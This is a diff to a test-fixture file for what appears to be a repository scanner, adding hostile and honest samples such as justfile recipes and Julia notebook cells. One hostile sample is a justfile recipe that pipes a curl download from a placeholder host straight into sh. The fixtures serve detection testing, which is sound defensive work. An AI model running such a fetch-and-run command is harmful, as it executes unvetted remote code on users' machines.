@@ -24,6 +24,7 @@ _NAMESPACE = (
     "m.__dict__.setdefault('__path__',[]);{0}(p not in mp) and mp.append(p)"
 )
 """As setuptools writes it: its releases differ in the spaces."""
+_JULIA = '{"metadata": {"kernelspec": {"language": "julia"}},\n"cells": [{"cell_type": "code", "source": ["%s"]}]}\n'
 _LOCK = (
     '{"lockfileVersion": 3, "packages": {"node_modules/x": {\n"version": "1.0.0",\n"resolved": "%s",\n'
     '"funding": {\n"url": "https://b.invalid/give"}}}}\n'
@@ -177,7 +178,18 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             {"conftest.py": "# coding: utf-7\nprint('inert')\n"}, "review", ("conftest.py", 1)
         ),
     },
+    "fetch_and_run": {
+        "a recipe of just": Sample(
+            {"justfile": "get:\n    curl -s https://a.invalid | sh\n"}, "review", ("justfile", 2)
+        ),
+    },
     "unread_code": {
+        "cells of another language that start something": Sample(
+            {"a.ipynb": _JULIA % "run(`echo inert`)"}, "review", ("a.ipynb", 1)
+        ),
+        "a recipe of just in another language": Sample(
+            {"justfile": "get:\n    #!/usr/bin/env perl\n    print 1\n"}, "review", ("justfile", 2)
+        ),
         "a library that a start file loads": Sample(
             {"sitecustomize.py": "import fast\n", "fast.so": b"\x7fELF" + bytes(60)}, "block", ("fast.so", 0)
         ),
@@ -299,6 +311,10 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
         "Cyrillic in an encoding of its own": {
             "test_a.py": "# coding: iso-8859-5\nprint('\u043f\u0440\u0438\u0432\u0435\u0442')\n".encode("iso-8859-5")
         },
+    },
+    "unread_code": {
+        "cells of another language that only reckon": {"a.ipynb": _JULIA % "f(x) = 100x"},
+        "recipes of just": {"justfile": "build: test\n    python build.py {{flags}}\n", "build.py": "print(1)\n"},
     },
     "near_names": {
         "a name that nobody takes for the other": {"requirements.txt": "cymysql==1.0\nfastar==0.8\n"},
